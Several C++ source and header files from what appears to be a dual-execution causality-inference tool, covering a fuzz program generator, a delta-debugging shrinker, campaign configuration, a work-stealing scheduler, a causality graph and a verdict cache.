        line("close(" + s + ");"),
    });
}

GenStmt
ProgramGenerator::stGetEnv()
{
    int v = var_++;
    std::string ev = "ev" + std::to_string(v);
    return unit({
        line("char " + ev + "[16];"),
        line("getenv(\"FUZZ\", " + ev + ", 15);"),
        line("acc = acc + " + ev + "[(" + expr() + ") & 15];"),
    });
}

GenStmt
ProgramGenerator::stIf(int depth, int fuel)
{
    GenStmt s;
    s.head = "if (" + cond() + ") {";
    s.tail = "}";
    s.body = block(depth + 1, fuel - 1);
    if (prng_.chance(1, 2)) {
        s.hasElse = true;
        s.elseBody = block(depth + 1, fuel - 1);
    }
    return s;
}

GenStmt
ProgramGenerator::stLoop(int depth, int fuel)
{
    // No thread units anywhere under a loop: a spawn per iteration
    // would exhaust the VM's context budget (contexts are never
    // recycled after join), and the generator promises trap-freedom.
    struct LoopScope
    {
        bool &flag;
        bool saved;
        explicit LoopScope(bool &f) : flag(f), saved(f) { f = true; }
        ~LoopScope() { flag = saved; }
    } scope(inLoop_);
    std::string bound =
        prng_.chance(1, 2)
            ? std::to_string(2 + prng_.below(6))
            : "(inputv[" + std::to_string(prng_.below(48)) +
                  "] & 7) + 1";
    int v = var_++;
    switch (prng_.below(3)) {
      case 0: {
        std::string i = "i" + std::to_string(v);
        GenStmt s;
        s.head = "for (int " + i + " = 0; " + i + " < " + bound +
                 "; " + i + " = " + i + " + 1) {";
        s.tail = "}";
        s.body = block(depth + 1, fuel - 1);
        return s;
      }
      case 1: {
        // while with an explicit countdown. The decrement is
        // non-removable: dropping it would compile into an infinite
        // loop, which the shrinker must never even try.
        std::string w = "w" + std::to_string(v);
        GenStmt loop;
        loop.head = "while (" + w + " > 0) {";
        loop.tail = "}";
        loop.body = block(depth + 1, fuel - 1);
        loop.body.push_back(
            line(w + " = " + w + " - 1;", /*removable=*/false));
        return unit({
            line("int " + w + " = " + bound + ";",
                 /*removable=*/false),
            loop,
        });
      }
      default: {
        std::string d = "d" + std::to_string(v);
        GenStmt loop;
        loop.head = "do {";
        loop.tail = "} while (" + d + " > 0);";
        loop.body = block(depth + 1, fuel - 1);
        loop.body.push_back(
            line(d + " = " + d + " - 1;", /*removable=*/false));
        return unit({
            line("int " + d + " = " + bound + ";",
                 /*removable=*/false),
            loop,
        });
      }
    }
}

GenStmt
ProgramGenerator::stThreadUnit()
{
    usesThreads_ = true;
    ++threadUnits_;
    int v = var_++;
    int spawns = 1 + static_cast<int>(prng_.below(2));
    std::vector<GenStmt> body;
    std::vector<std::string> tids;
    for (int i = 0; i < spawns; ++i) {
        int w = static_cast<int>(
            prng_.below(static_cast<std::uint64_t>(numWorkers_)));
        std::string t =
            "t" + std::to_string(v) + "_" + std::to_string(i);
        tids.push_back(t);
        // spawn/join stay paired; an unjoined thread or a joined
        // non-thread is exactly the cross-side hazard we don't want
        // the *generator* to create (the mutation will).
        body.push_back(line("int " + t + " = spawn(&worker" +
                                std::to_string(w) + ", (" + expr() +
                                ") & 7);",
                            /*removable=*/false));
    }
    for (const std::string &t : tids)
        body.push_back(line("join(" + t + ");", /*removable=*/false));
    body.push_back(line("acc = acc + shared0 + shared1;",
                        /*removable=*/false));
    return unit(std::move(body));
}

// -- blocks and dispatch ----------------------------------------------

std::vector<GenStmt>
ProgramGenerator::block(int depth, int fuel)
{
    int stmts = 1 + static_cast<int>(prng_.below(
                        static_cast<std::uint64_t>(
                            opt_.maxStmtsPerBlock > 0
                                ? opt_.maxStmtsPerBlock
                                : 1)));
    std::vector<GenStmt> out;
    for (int i = 0; i < stmts; ++i)
        out.push_back(randomStmt(depth, fuel));
    return out;
}

GenStmt
ProgramGenerator::randomStmt(int depth, int fuel)
{
    enum Kind
    {
        Assign, Nondet, Array, Pointer, Heap, FnPtr, HelperCall,
        Recursion, FileRead, FileWrite, SocketOut, SocketIn, GetEnv,
        If, Loop, ThreadUnit,
    };

    bool nested_ok = depth < opt_.maxBlockDepth && fuel > 0;
    bool threads_ok = inMain_ && !inLoop_ && depth <= 1 &&
                      numWorkers_ > 0 &&
                      threadUnits_ < opt_.maxThreadUnits;

    struct Entry
    {
        Kind kind;
        int weight;
    };
    const Entry table[] = {
        {Assign, opt_.wAssign},
        {Nondet, opt_.wNondet},
        {Array, opt_.wArray},
        {Pointer, opt_.wPointer},
        {Heap, opt_.wHeap},
        {FnPtr, opt_.wFnPtr},
        {HelperCall, opt_.wHelperCall},
        {Recursion, opt_.wRecursion},
        {FileRead, opt_.wFileRead},
        {FileWrite, opt_.wFileWrite},
        {SocketOut, opt_.wSocketOut},
        {SocketIn, opt_.wSocketIn},
        {GetEnv, opt_.wGetEnv},
        {If, nested_ok ? opt_.wIf : 0},
        {Loop, nested_ok ? opt_.wLoop : 0},
        {ThreadUnit, threads_ok ? opt_.wThreads : 0},
    };

    std::uint64_t total = 0;
    for (const Entry &e : table)
        total += static_cast<std::uint64_t>(e.weight > 0 ? e.weight : 0);
    if (total == 0)
        return stAssign();
    std::uint64_t pick = prng_.below(total);
    Kind kind = Assign;
    for (const Entry &e : table) {
        std::uint64_t w =
            static_cast<std::uint64_t>(e.weight > 0 ? e.weight : 0);
        if (pick < w) {
            kind = e.kind;
            break;
        }
        pick -= w;
    }

    switch (kind) {
      case Assign: return stAssign();
      case Nondet: return stNondet();
      case Array: return stArray();
      case Pointer: return stPointer();
      case Heap: return stHeap();
      case FnPtr: return stFnPtr();
      case HelperCall: return stHelperCall();
      case Recursion: return stRecursion();
      case FileRead: return stFileRead();
      case FileWrite: return stFileWrite();
      case SocketOut: return stSocketOut();
      case SocketIn: return stSocketIn();
      case GetEnv: return stGetEnv();
      case If: return stIf(depth, fuel);
      case Loop: return stLoop(depth, fuel);
      case ThreadUnit: return stThreadUnit();
    }
    return stAssign();
}

// -- functions --------------------------------------------------------

GenFunction
ProgramGenerator::makeWorker(int w)
{
    // Workers are commutative accumulators under a lock and perform
    // no nondeterminism syscalls, so the final shared values (and
    // every per-thread syscall stream) are independent of the
    // interleaving — the cross-driver identity oracle depends on it.
    GenFunction f;
    f.removable = true;
    f.open = "int worker" + std::to_string(w) + "(int p) {";
    int lk = w % 2;
    std::string shared = "shared" + std::to_string(lk);
    bool yields = prng_.chance(1, 2);
    int extra = static_cast<int>(prng_.below(20));
    f.body.push_back(line("int k = 0;", false));
    GenStmt loop;
    loop.head = "while (k < (p & 3) + 1) {";
    loop.tail = "}";
    loop.removable = false;
    loop.body.push_back(
        line("lock(" + std::to_string(lk) + ");", false));
    loop.body.push_back(line(shared + " = " + shared + " + p + k + " +
                                 std::to_string(extra) + ";",
                             false));
    loop.body.push_back(
        line("unlock(" + std::to_string(lk) + ");", false));
    if (yields)
        loop.body.push_back(line("yield();", false));
    loop.body.push_back(line("k = k + 1;", false));
    f.body.push_back(std::move(loop));
    f.body.push_back(line("return 0;", false));
    return f;
}

GenFunction
ProgramGenerator::makeRec(int which)
{
    // rec1 <-> rec2 mutual recursion on a strictly decreasing
    // non-negative argument; rec1 keeps the nondet syscall the v1
    // generator had, so recursion under counter save/reset still
    // crosses alignment points.
    GenFunction f;
    f.removable = true;
    f.open = "int rec" + std::to_string(which) + "(int n) {";
    f.body.push_back(line("if (n <= 0) { return " +
                              std::to_string(which - 1) + "; }",
                          false));
    if (which == 1) {
        f.body.push_back(line("time();", false));
        f.body.push_back(line("return n + rec2(n - 1);", false));
    } else {
        f.body.push_back(line("return n + rec1(n - 2);", false));
    }
    return f;
}

GenFunction
ProgramGenerator::makeHelper(int h)
{
    callableHelpers_ = h; // strictly lower ids only: chains terminate
    inMain_ = false;
    GenFunction f;
    f.removable = true;
    f.open = "int helper" + std::to_string(h) + "(int p) {";
    f.body.push_back(line("int save = acc;", false));
    f.body.push_back(line("acc = p;", false));
    for (GenStmt &s : block(1, 1))
        f.body.push_back(std::move(s));
    f.body.push_back(line("int r = acc;", false));
    f.body.push_back(line("acc = save;", false));
    f.body.push_back(line("return r % 1000;", false));
    return f;
}

GenFunction
ProgramGenerator::makeMain()
{
    callableHelpers_ = numHelpers_;
    inMain_ = true;
    GenFunction f;
    f.open = "int main() {";
    f.body.push_back(unit({
        line("int fd = open(\"/input.txt\", 0);"),
        line("int n = read(fd, inputv, 63);"),
        line("close(fd);"),
        line("acc = n;"),
    }));
    for (GenStmt &s : block(0, opt_.mainFuel))
        f.body.push_back(std::move(s));
    f.body.push_back(unit({
        line("itoa(acc % 100000, scratch);"),
        line("int s = socket();"),
        line("connect(s, \"sink.example.com\");"),
        line("send(s, scratch, strlen(scratch));"),
    }));
    f.body.push_back(line("return 0;", false));
    inMain_ = false;
    return f;
}

} // namespace ldx::fuzz
