#include "fuzz/shrinker.h"

#include <algorithm>

namespace ldx::fuzz {

Shrinker::Shrinker(const Oracle &oracle, ShrinkOptions opt)
    : oracle_(oracle), opt_(opt)
{}

ShrinkResult
Shrinker::shrink(std::uint64_t seed, const GenProgram &prog) const
{
    ShrinkResult out;
    std::set<int> removed;
    std::set<int> unwrapped;

    auto stillFails = [&](const std::set<int> &rm,
                          const std::set<int> &uw) {
        if (out.evaluations >= opt_.maxEvaluations)
            return false;
        ++out.evaluations;
        SeedReport rep =
            oracle_.runSource(seed, prog.render(rm, uw));
        return rep.compiled && !rep.violations.empty();
    };

    bool progress = true;
    while (progress && out.evaluations < opt_.maxEvaluations) {
        progress = false;

        // Removal passes: try dropping chunks of alive removable
        // nodes, halving the chunk until single nodes.
        std::vector<int> alive = prog.aliveRemovable(removed, unwrapped);
        std::size_t chunk = std::max<std::size_t>(alive.size() / 2, 1);
        while (true) {
            bool any = false;
            alive = prog.aliveRemovable(removed, unwrapped);
            for (std::size_t i = 0; i < alive.size(); i += chunk) {
                std::set<int> rm = removed;
                std::size_t end =
                    std::min(i + chunk, alive.size());
                for (std::size_t j = i; j < end; ++j)
                    rm.insert(alive[j]);
                if (rm.size() == removed.size())
                    continue;
                if (stillFails(rm, unwrapped)) {
                    removed = std::move(rm);
                    any = true;
                    progress = true;
                }
            }
            if (!any && chunk == 1)
                break;
            if (!any)
                chunk = std::max<std::size_t>(chunk / 2, 1);
            if (out.evaluations >= opt_.maxEvaluations)
                break;
        }

        // Unwrap passes: replace an if/loop wrapper by its children.
        for (int id : prog.aliveBlocks(removed, unwrapped)) {
            std::set<int> uw = unwrapped;
            uw.insert(id);
            if (stillFails(removed, uw)) {
                unwrapped = std::move(uw);
                progress = true;
            }
            if (out.evaluations >= opt_.maxEvaluations)
                break;
        }
    }

    out.removed = removed;
    out.unwrapped = unwrapped;
    out.removedNodes =
        static_cast<int>(removed.size() + unwrapped.size());
    out.changed = out.removedNodes > 0;
    out.source = prog.render(removed, unwrapped);
    return out;
}

} // namespace ldx::fuzz
