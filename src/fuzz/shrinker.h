/**
 * @file
 * fuzz::Shrinker — delta-debugging over the generator's emission
 * decisions.
 *
 * Rather than shrinking MiniC text (which mostly yields syntax
 * errors), the shrinker operates on the GenProgram tree: each
 * candidate removes a subset of removable nodes (statements, units,
 * whole helper/worker/rec functions) or unwraps a block (keeping its
 * children, dropping the if/loop around them), re-renders, and asks
 * the oracle whether the candidate still violates an invariant. A
 * candidate that drops a load-bearing declaration simply fails to
 * compile and is rejected by construction; loop-control lines and
 * lock/spawn pairings are marked non-removable by the generator, so
 * no candidate can introduce nontermination or a deadlock the
 * original didn't have.
 *
 * The algorithm is ddmin-style: chunked removal passes (chunk size
 * halving from n/2 to 1) alternating with block-unwrap passes, until
 * a full round makes no progress or the evaluation budget runs out.
 */
#pragma once

#include <cstdint>
#include <set>
#include <string>

#include "fuzz/generator.h"
#include "fuzz/oracle.h"

namespace ldx::fuzz {

/** Shrinker configuration. */
struct ShrinkOptions
{
    /** Hard cap on oracle evaluations (each is a full matrix run). */
    int maxEvaluations = 400;
};

/** Outcome of one shrink. */
struct ShrinkResult
{
    std::string source;      ///< minimal reproducing program
    int evaluations = 0;     ///< oracle calls spent
    int removedNodes = 0;    ///< nodes removed or unwrapped
    bool changed = false;    ///< anything was shrunk at all

    /** The final node sets (for re-rendering / debugging). */
    std::set<int> removed;
    std::set<int> unwrapped;
};

/** Delta-debugger for failing seeds. */
class Shrinker
{
  public:
    explicit Shrinker(const Oracle &oracle, ShrinkOptions opt = {});

    /**
     * Shrink @p prog (the program generated for @p seed, which the
     * oracle found violating) to a minimal program that still
     * violates some invariant. The full program is assumed failing;
     * callers should verify that first.
     */
    ShrinkResult shrink(std::uint64_t seed,
                        const GenProgram &prog) const;

  private:
    const Oracle &oracle_;
    ShrinkOptions opt_;
};

} // namespace ldx::fuzz
