/**
 * @file
 * The batch causality-inference engine (`ldx campaign`).
 *
 * A campaign answers "which inputs influence which outputs of this
 * program?" in one shot. One native baseline run enumerates candidate
 * sources and sinks (query/enumerate.h); the planner crosses every
 * queryable source with every mutation policy into a query list; the
 * result cache is probed on the planning thread; cache misses run as
 * independent dual executions on the work-stealing pool
 * (query/scheduler.h); and the aggregator folds the per-query
 * verdicts into a deterministic causality graph (query/graph.h).
 *
 * Determinism contract: for a fixed (module, world, sink config,
 * policy list, offset), the campaign's graph JSON/DOT are
 * byte-identical across worker counts, queue caps, completion orders,
 * cache states (cold vs warm), and drivers (lockstep vs threaded).
 */
#pragma once

#include <atomic>
#include <cstdint>
#include <optional>
#include <string>
#include <vector>

#include "ir/ir.h"
#include "ldx/engine.h"
#include "obs/phase.h"
#include "obs/registry.h"
#include "os/world.h"
#include "query/cache.h"
#include "query/enumerate.h"
#include "query/graph.h"
#include "query/scheduler.h"
#include "query/verdict.h"

namespace ldx::query {

/** Campaign configuration. */
struct CampaignConfig
{
    /** Mutation policies crossed with every queryable source. */
    std::vector<core::MutationStrategy> policies = {
        core::MutationStrategy::OffByOne,
        core::MutationStrategy::Zero,
        core::MutationStrategy::BitFlip,
    };

    /**
     * Byte offset mutated within each source value;
     * SourceSpec::kWholeValue (the default) perturbs every byte so an
     * enumerated source reliably disturbs behaviour without knowing
     * the workload's sensitive offset.
     */
    std::size_t offset = core::SourceSpec::kWholeValue;

    /** Sink channels considered (shared with the enumeration). */
    core::SinkConfig sinks;

    /** Run each pair with the threaded driver (default: lockstep). */
    bool threaded = false;
    core::DriverConfig driver;

    /** Worker threads (>= 1). */
    int jobs = 1;

    /** Admission cap: max outstanding queries (>= 1). */
    std::size_t queueCap = 256;

    /**
     * Per-query deadline (seconds) enforced as the engine's
     * wall-clock cap; an expired query yields a TimedOut verdict.
     */
    double deadlineSeconds = 30.0;

    /** In-memory result-cache capacity (entries, >= 1). */
    std::size_t cacheCapacity = 4096;

    /** Cache persistence directory ("" = memory only). */
    std::string cacheDir;

    /** Retained baseline events (enumeration cap). */
    std::uint64_t eventCap = 1 << 16;

    /** Cooperative cancellation flag (the CLI's SIGINT latch). */
    const std::atomic<bool> *cancel = nullptr;

    /**
     * Campaign-level metrics registry (scheduler, cache, planner
     * tallies). Each dual execution always runs with a *private*
     * engine registry — DualResult's legacy counters are
     * registry-backed and would otherwise accumulate across queries.
     */
    obs::Registry *registry = nullptr;

    /**
     * Structured trace sink (may be null). Receives the campaign
     * phase spans on the pipeline lane plus one span-correlated set
     * of per-query spans: every query emits `query.probe`, then
     * exactly one terminal marker — `query.cached`, `query.exec`
     * (with `query.queue-wait`, on the running worker's lane), or
     * `query.cancelled` — all carrying the query index as the
     * numeric "span" argument (docs/OBSERVABILITY.md "Campaign
     * telemetry").
     */
    obs::TraceSink *traceSink = nullptr;

    /** VM configuration common to every run. */
    vm::MachineConfig vmConfig;

    /**
     * Guest-level site profiling (`--site-profile-out`): every query
     * runs with master/slave SiteCounters and its compacted profile
     * lands in CampaignResult::queryProfiles. The cache is bypassed
     * (probing skipped) so the heat map covers every query no matter
     * the cache state — the artifact stays byte-identical across
     * cold and warm runs. Requires vmConfig.predecode.
     */
    bool siteProfile = false;

    /**
     * Snapshot/fork execution (`--snapshot`): group the plan's
     * queries by source, run each group's shared master/slave prefix
     * once (the carrier, paused at the source's first touch), and run
     * the remaining policies as forks resumed from the captured
     * snapshot — S·P full runs become S prefix runs plus S·P suffix
     * runs (ldx/snapshot.h). Verdicts and the graph are byte-identical
     * to the non-snapshot path, which remains the oracle
     * (tests/snapshot_test.cc). Incompatible with siteProfile: a
     * fork's site counters would miss the prefix's attribution.
     */
    bool snapshot = false;

    /**
     * Fault injection for the fuzz harness: every fork's slave-memory
     * restore skips the Nth dirty 4096-byte page — the planted
     * stale-snapshot bug that the snapshot-equality oracle must
     * catch (vm::Memory::restore). 0 = off.
     */
    std::uint64_t chaosDropSnapshotPage = 0;

    /**
     * Process-wide sharded verdict cache (`ldx serve`). When set the
     * campaign probes and populates it instead of constructing a
     * private ResultCache; `cacheCapacity`/`cacheDir` are ignored
     * (the shared cache owns both) while per-campaign
     * campaign.cache.* counters still land in `registry`.
     * CampaignResult::cacheEvictions reads 0 — evictions belong to
     * the process, not to any one tenant (serve.cache.evictions).
     */
    ShardedResultCache *sharedCache = nullptr;

    /**
     * Process-wide worker pool (`ldx serve`). When set the campaign
     * runs as one tenant of the pool (SchedulerConfig::shared):
     * `jobs` is ignored, `queueCap` stays the per-tenant admission
     * cap, and the output bytes are unchanged from a private pool.
     */
    SharedPool *sharedPool = nullptr;

    /**
     * Streaming hook (`ldx serve`): called once per query that
     * produced a verdict — on the planning thread for cache hits
     * (query-index order), from a worker thread right after each
     * dual execution otherwise (completion order; may be called
     * concurrently). Cancelled/failed queries never fire it; read
     * their disposition from CampaignResult after the run.
     */
    std::function<void(const CampaignQuery &, const QueryVerdict &,
                       bool fromCache)>
        onVerdict;
};

/**
 * One guest site's cost within a single query, compacted from the
 * query's dual SiteCounters (master-side counts plus the absolute
 * master-vs-slave retired delta — the mutation's causal footprint).
 */
struct SiteHeatEntry
{
    std::uint32_t fn = 0;       ///< function id
    std::uint32_t idx = 0;      ///< flat decoded offset
    std::uint64_t retired = 0;  ///< master retired instructions
    std::uint64_t syscalls = 0; ///< master completed syscalls
    std::uint64_t sysTicks = 0; ///< master virtual syscall latency
    std::uint64_t dRetired = 0; ///< |master - slave| retired
};

/** Everything a campaign produced. */
struct CampaignResult
{
    BaselineEnumeration baseline;

    std::uint64_t programHash = 0;
    std::uint64_t worldHash = 0;

    /** Planned queries (queryable sources x policies). */
    std::vector<CampaignQuery> queries;

    /**
     * Verdict per query (slot i answers queries[i]); nullopt when the
     * query was cancelled or failed.
     */
    std::vector<std::optional<QueryVerdict>> verdicts;

    /** Scheduler outcome per query (cache hits report Done). */
    std::vector<RunOutcome> outcomes;

    /** Whether the verdict came from the cache. */
    std::vector<bool> fromCache;

    /**
     * Per-query compact site profiles (slot i answers queries[i]);
     * empty vectors unless CampaignConfig::siteProfile was set and
     * the query actually executed. Entries are (fn, idx)-ordered.
     */
    std::vector<std::vector<SiteHeatEntry>> queryProfiles;

    CausalityGraph graph;

    // Tallies (also in the metrics registry as campaign.*).
    std::uint64_t dualExecutions = 0; ///< engine runs actually made
    std::uint64_t cacheHits = 0;
    std::uint64_t cacheMisses = 0;
    std::uint64_t cacheEvictions = 0;
    std::uint64_t cancelledQueries = 0;
    std::uint64_t failedQueries = 0;
    std::uint64_t timedOutQueries = 0;

    // Snapshot/fork tallies (campaign.snapshot.* in the registry;
    // zero when CampaignConfig::snapshot is off).
    std::uint64_t snapshotPrefixRuns = 0; ///< carrier prefixes captured
    std::uint64_t snapshotForks = 0;      ///< suffix-only runs
    std::uint64_t snapshotInstrsSaved = 0; ///< prefix instrs not re-run
    /**
     * Dual (master+slave) prefix instructions actually executed, as
     * measured by the probe trigger at each mutated source's first
     * touch. Reported in BOTH modes (campaign.dual.prefix_instrs) —
     * the snapshot speedup claim is this number's on-vs-off ratio.
     */
    std::uint64_t prefixInstrs = 0;

    /** Phase timing (enumerate / plan / probe-cache / execute /
     *  aggregate), completion order. */
    std::vector<obs::PhaseSample> phases;

    bool anyCausality() const { return graph.anyCausality(); }
};

/**
 * Run a full campaign over @p module (counter-instrumented; fatal
 * otherwise) in @p world.
 */
CampaignResult runCampaign(const ir::Module &module,
                           const os::WorldSpec &world,
                           const CampaignConfig &cfg);

} // namespace ldx::query
