/**
 * @file
 * Bounded work-stealing scheduler for campaign queries.
 *
 * The pool runs one dual-execution pair per query on a fixed set of
 * worker threads. Design constraints (docs/CAMPAIGN.md "Scheduler
 * semantics"):
 *
 *  - *Determinism*: results are collected into a slot array indexed
 *    by query id and aggregated only after the pool drains, so the
 *    campaign's output is byte-identical regardless of worker count,
 *    stealing, or completion order.
 *  - *Admission control*: at most `queueCap` queries are outstanding
 *    (queued but unfinished) at once; the submitting thread blocks
 *    until workers drain the backlog. This bounds memory for
 *    campaigns with hundreds of thousands of queries.
 *  - *Work stealing*: each worker owns a deque fed round-robin; a
 *    worker that runs dry pops from the back of the fullest peer
 *    deque (campaign.sched.steals counts them), so one slow query
 *    never idles the rest of the pool.
 *  - *Cancellation / graceful drain*: when the cancel flag flips (the
 *    CLI's SIGINT handler), submission stops and queued-but-unstarted
 *    queries return Cancelled; in-flight queries run to completion so
 *    their verdicts are never torn.
 *  - *Deadline/watchdog*: the per-query deadline is enforced by the
 *    engine's wall-clock cap (the query fn maps expiry to a TimedOut
 *    verdict); the scheduler additionally tracks per-query runtime
 *    into the campaign.query_seconds histogram.
 *  - *Telemetry*: per-item queue wait and execution latency land in
 *    the campaign.{queue_wait_seconds,query_seconds} histograms, a
 *    live campaign.sched.active_workers gauge plus post-drain
 *    per-worker busy/utilization gauges feed the progress meter and
 *    the exporter, and when a trace sink is configured every executed
 *    item emits span-correlated queue-wait and exec spans on its
 *    worker's lane (docs/OBSERVABILITY.md "Campaign telemetry").
 */
#pragma once

#include <atomic>
#include <condition_variable>
#include <cstdint>
#include <deque>
#include <functional>
#include <mutex>
#include <string>
#include <thread>
#include <vector>

#include "obs/registry.h"
#include "obs/trace.h"

namespace ldx::query {

class SharedPool;

/** How one scheduled query ended. */
enum class RunStatus
{
    Done,       ///< the query fn returned a verdict
    Cancelled,  ///< drained before starting (SIGINT)
    Failed,     ///< the query fn threw; error holds the message
};

/** Stable slug of a run status ("done", "cancelled", "failed"). */
const char *runStatusName(RunStatus s);

/** Scheduler outcome of one query. */
struct RunOutcome
{
    RunStatus status = RunStatus::Cancelled;
    std::string error;     ///< Failed only
    double seconds = 0.0;  ///< wall time inside the query fn
    /** Time between submission and a worker picking the query up. */
    double queueWaitSeconds = 0.0;
    /** obs::nowUs() when the query fn started (0 if never run). */
    std::int64_t startUs = 0;
    int worker = -1;       ///< worker that ran it (observability only)
};

/** Pool configuration. */
struct SchedulerConfig
{
    /** Worker threads (>= 1). */
    int jobs = 1;

    /** Max outstanding (submitted, unfinished) queries (>= 1). */
    std::size_t queueCap = 256;

    /** Cooperative cancellation flag (may be null). */
    const std::atomic<bool> *cancel = nullptr;

    /** Campaign metrics registry (may be null). */
    obs::Registry *registry = nullptr;

    /**
     * Span-correlated trace sink (may be null). Each executed item
     * emits a `query.queue-wait` and a `query.exec` span on its
     * worker's lane (obs::kWorkerLaneBase + worker) carrying the
     * item's span id.
     */
    obs::TraceSink *traceSink = nullptr;

    /**
     * Optional map from pool item index to the stable span id on
     * emitted trace records — the campaign passes query indices here
     * because it only schedules cache misses. Item index itself when
     * null. Must outlive the pool and have `count` entries.
     */
    const std::vector<std::size_t> *spanIds = nullptr;

    /**
     * When set, the run executes as one *tenant* of this process-wide
     * pool instead of spinning up private workers: `jobs` is ignored
     * (the pool owns the thread count) while `queueCap`, `cancel`,
     * `registry`, `traceSink` and `spanIds` keep their per-campaign
     * meaning. Results still land in a slot array indexed by item,
     * so campaign output stays byte-identical to a private pool run.
     */
    SharedPool *shared = nullptr;
};

/**
 * Run @p fn(i) for every i in [0, count) on the pool and return one
 * outcome per index. @p fn must be thread-safe across distinct
 * indices; it is invoked at most once per index.
 */
std::vector<RunOutcome> runOnPool(std::size_t count,
                                  const std::function<void(std::size_t)> &fn,
                                  const SchedulerConfig &cfg);

/**
 * Process-wide worker pool shared by many concurrent campaigns
 * (`ldx serve`). Each campaign registers as a *tenant* with its own
 * FIFO queue; workers draw from tenants with a rotating fair cursor,
 * one item per visit, so a huge job cannot starve small ones — the
 * tenant-level fair dequeue replaces intra-pool stealing (within a
 * tenant, items run oldest-first). Per-tenant admission stays the
 * campaign's own `queueCap`, so a tenant's submitter blocks while
 * its backlog is at cap exactly like the private pool.
 *
 * Determinism: outcomes land in the tenant's slot array and each
 * campaign aggregates only after its own drain, so the bytes a
 * tenant produces are independent of pool size and of whatever the
 * other tenants are doing.
 */
class SharedPool
{
  public:
    struct Config
    {
        /** Worker threads shared by all tenants (>= 1). */
        int jobs = 1;
        /** Server-wide metrics registry (may be null): feeds the
         *  serve.pool.* counters and serve.queries_inflight gauge. */
        obs::Registry *registry = nullptr;
    };

    explicit SharedPool(const Config &cfg);
    ~SharedPool();

    SharedPool(const SharedPool &) = delete;
    SharedPool &operator=(const SharedPool &) = delete;

    int jobs() const { return jobs_; }

    /** Tenants currently registered (drained tenants drop off). */
    std::size_t tenantCount() const;

    /**
     * Execute one campaign's items as a tenant. Called by runOnPool
     * when SchedulerConfig::shared is set; blocks until every
     * submitted item finished (cancelled items are never started).
     */
    std::vector<RunOutcome>
    runTenant(std::size_t count,
              const std::function<void(std::size_t)> &fn,
              const SchedulerConfig &cfg);

  private:
    struct Tenant;

    void workerLoop(int self);
    Tenant *pickTenant();  ///< fair rotating scan; mutex_ held
    bool pickableWork();   ///< any tenant has queued items; mutex_ held

    int jobs_;
    obs::Registry *registry_;

    mutable std::mutex mutex_;
    std::condition_variable workCv_;
    std::vector<Tenant *> tenants_; ///< registration order
    std::size_t cursor_ = 0;        ///< next tenant slot to serve
    std::size_t inflight_ = 0;      ///< submitted, unfinished (all tenants)
    std::atomic<int> activeWorkers_{0};
    bool shutdown_ = false;
    std::vector<std::thread> threads_;
};

} // namespace ldx::query
