/**
 * @file
 * Deterministic source→sink causality graph (docs/CAMPAIGN.md "Graph
 * schema").
 *
 * The aggregator folds per-query verdicts into a graph whose JSON and
 * DOT renderings are byte-identical for a given (program, world,
 * source set, policy set) — independent of worker count, completion
 * order, caching, and driver. This is the artifact Causal Program
 * Dependence Analysis calls the causal-dependence graph: nodes are
 * the baseline's candidate sources and the sinks evidence attached
 * to; an edge (S, T) aggregates every policy's evidence that mutating
 * S changed T, with a confidence (agreeing policies / total policies)
 * and the worst evidence quality seen (clean / decoupled /
 * timed-out).
 */
#pragma once

#include <cstdint>
#include <map>
#include <string>
#include <vector>

#include "query/enumerate.h"
#include "query/verdict.h"

namespace ldx::query {

/** One source node. */
struct GraphSource
{
    std::string id;        ///< SourceCandidate::id
    std::string klass;     ///< sourceClassName
    std::string resource;
    bool queryable = false;
    std::uint64_t eventCount = 0;
    std::uint64_t firstEvent = 0; ///< id of the first baseline touch
};

/** One sink node. */
struct GraphSink
{
    std::string id;        ///< "sink:<channel>" or a VM-level sink
    std::string channel;   ///< "" for VM-level sinks
    std::uint64_t eventCount = 0; ///< baseline events (0 = VM-level)
};

/** One causality edge. */
struct GraphEdge
{
    std::string from;   ///< source node id
    std::string to;     ///< sink node id
    /** Evidence kinds seen, kind -> total finding count. */
    std::map<std::string, std::uint64_t> kinds;
    /** Policies whose query produced this edge, in campaign order. */
    std::vector<std::string> policies;
    /** Agreeing policies / policies run against the source. */
    double confidence = 0.0;
    /** Worst quality over contributing queries. */
    VerdictQuality quality = VerdictQuality::Clean;
};

/** The aggregated campaign graph. */
struct CausalityGraph
{
    std::uint64_t programHash = 0;
    std::uint64_t worldHash = 0;
    std::vector<std::string> policies; ///< campaign policy order

    std::vector<GraphSource> sources;  ///< enumeration order
    std::vector<GraphSink> sinks;      ///< baseline order, then VM-level
    std::vector<GraphEdge> edges;      ///< sorted by (from, to)

    bool anyCausality() const { return !edges.empty(); }

    /**
     * Canonical JSON document. Deterministic: object keys are fixed,
     * arrays are ordered as documented above, and no timing or
     * scheduling data is included.
     */
    std::string toJson() const;

    /** Graphviz DOT rendering (sources as ellipses, sinks as boxes). */
    std::string toDot() const;

    /** Human-readable edge list for the CLI summary. */
    std::string summaryText() const;
};

/**
 * Fold @p verdicts (slot i answers @p queries[i]; a null slot means
 * the query was cancelled or failed and contributes nothing) into the
 * graph for @p baseline.
 */
CausalityGraph buildGraph(const BaselineEnumeration &baseline,
                          const std::vector<CampaignQuery> &queries,
                          const std::vector<const QueryVerdict *> &verdicts,
                          const std::vector<std::string> &policies,
                          std::uint64_t program_hash,
                          std::uint64_t world_hash);

} // namespace ldx::query
