#include "query/cache.h"

#include <cstdio>
#include <filesystem>
#include <fstream>
#include <sstream>
#include <thread>

#include "ir/printer.h"
#include "obs/recorder.h"

namespace ldx::query {

namespace {

// v2 added the trailing `end\t<fnv1a>` sentinel; v1 records (no
// sentinel) deliberately fail to parse and are recomputed.
constexpr const char *kRecordMagic = "ldx-campaign-cache v2";

void
appendKv(std::string &out, const std::string &k, const std::string &v)
{
    out += k;
    out += '\t';
    out += v;
    out += '\n';
}

} // namespace

std::string
CacheKey::digest() const
{
    // Fold the structured key into one collision-resistant-enough
    // name: two fnv1a passes over the textual rendering.
    std::string text = std::to_string(programHash) + "|" +
                       std::to_string(worldHash) + "|" + sourceId +
                       "|" + policy;
    std::uint64_t h1 = obs::fnv1a(text);
    std::uint64_t h2 = obs::fnv1a(text + "#2");
    char buf[64];
    std::snprintf(buf, sizeof buf, "%016llx%016llx",
                  static_cast<unsigned long long>(h1),
                  static_cast<unsigned long long>(h2));
    return buf;
}

std::string
canonicalWorld(const os::WorldSpec &world)
{
    // std::map iteration gives a canonical order for files/peers/env.
    std::string out;
    for (const auto &[path, data] : world.files)
        appendKv(out, "file:" + path, data);
    for (const auto &[host, script] : world.peers) {
        std::string resp;
        for (const std::string &r : script.responses) {
            resp += std::to_string(r.size());
            resp += ':';
